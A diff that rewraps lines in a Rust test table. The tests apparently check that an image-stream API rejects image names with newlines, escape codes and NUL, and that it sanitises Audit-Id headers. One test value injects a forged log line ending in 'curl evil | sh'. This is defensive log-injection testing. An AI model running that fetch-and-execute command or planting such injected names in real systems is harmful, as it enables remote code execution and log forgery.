@@ -19,11 +19,16 @@ pub(crate) fn table() -> Table {
     };
     let with_stream = || vec![post("namespaces/mal/imagestreams", &stream("s"))];
     let rows = vec![
-        Row::new("image named with a newline", &[422], named("a\n2026-11-28T18:00:00Z ERROR run: curl evil | sh"))
-            .after(with_stream),
+        Row::new(
+            "image named with a newline",
+            &[422],
+            named("a\n2026-11-28T18:00:00Z ERROR run: curl evil | sh"),
+        )
+        .after(with_stream),
         Row::new("image named with an escape", &[422], named("a\u{1b}[2J")).after(with_stream),
         Row::new("image named with NUL", &[422], named("a\0")).after(with_stream),
-        Row::new("image named with a line separator", &[201, 422], named("a\u{2028}b")).after(with_stream),
+        Row::new("image named with a line separator", &[201, 422], named("a\u{2028}b"))
+            .after(with_stream),
         audit_id("Audit-Id of 900 kB", "a".repeat(900_000), false),
         audit_id("Audit-Id of 65 letters", "a".repeat(65), false),
         audit_id("Audit-Id of 64 letters", "a".repeat(64), true),
@@ -32,7 +37,9 @@ pub(crate) fn table() -> Table {
         audit_id("Audit-Id beyond ASCII", "\u{e9}".into(), false),
         audit_id("empty Audit-Id", String::new(), false),
         Row::script("200 unknown fields", |site: Rc<Site>| async move { warned(&site, 200).await }),
-        Row::script("20,000 unknown fields", |site: Rc<Site>| async move { warned(&site, 20_000).await }),
+        Row::script("20,000 unknown fields", |site: Rc<Site>| async move {
+            warned(&site, 20_000).await
+        }),
     ];
     Table::new("small", rows)
 }
@@ -43,11 +50,17 @@ fn audit_id(name: &str, id: String, is_kept: bool) -> Row {
         let id = id.clone();
         async move {
             let request = get("namespaces/vic/imagestreams/w").header("audit-id", &id);
-            let answer =
-                site.mal.send_unchecked(request).await.map_err(|why| why.to_string())?.of_status(&[200, 431])?;
+            let answer = site
+                .mal
+                .send_unchecked(request)
+                .await
+                .map_err(|why| why.to_string())?
+                .of_status(&[200, 431])?;
             let shown = answer.header("audit-id").unwrap_or_default();
             let is_plain = shown.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
-            if answer.status == 200 && (shown.is_empty() || shown.len() > 64 || !is_plain || (shown == id) != is_kept) {
+            if answer.status == 200
+                && (shown.is_empty() || shown.len() > 64 || !is_plain || (shown == id) != is_kept)
+            {
                 return Err(format!("the answer's Audit-Id is {shown:.100?}"));
             }
             Ok(Seen { largest: answer.body.len(), note: format!("{}, {shown:.40}", answer.status) })
